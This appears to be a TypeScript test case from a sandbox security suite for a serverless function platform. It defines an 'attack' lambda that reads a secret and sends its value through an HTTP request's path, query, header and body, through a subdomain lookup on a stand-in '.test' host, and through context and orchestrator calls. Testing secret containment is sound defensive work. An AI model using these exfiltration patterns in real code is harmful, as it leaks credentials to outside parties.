import { attack } from "../attack.ts";

export default attack({
  what: "has a secret kept as a part of what it called: address, header, body, context and another function",
  code: `
    import { Toolbelt } from "core-functions-toolbelt";
    async function lambda({ payload: { port } }) {
      const { value } = await Toolbelt.SecretClient().readSecret("OWN");
      await fetch("http://127.0.0.1:" + port + "/" + value + "?a=" + value, {
        method: "POST",
        headers: { "x-a": value },
        body: value,
      });
      await fetch("https://" + value + ".test/").catch(() => {});
      await Toolbelt.ContextServiceClient().setPropertiesInNamespace(
        "own",
        { [value]: value },
        value,
      );
      await Toolbelt.OrchestratorClient().invoke([
        { uuid: value, payload: { value }, retries: 0 },
      ]);
      return { type: "sayWelcome", [value]: value };
    }
  `,
  setup: async ({ serve, allow }) => {
    await allow({ host: "127.0.0.1", private: true });
    const { port } = await serve((request, response) => response.end("seen"));
    return { payload: { port } };
  },
  expect: { outcomes: ["answered"] },
});
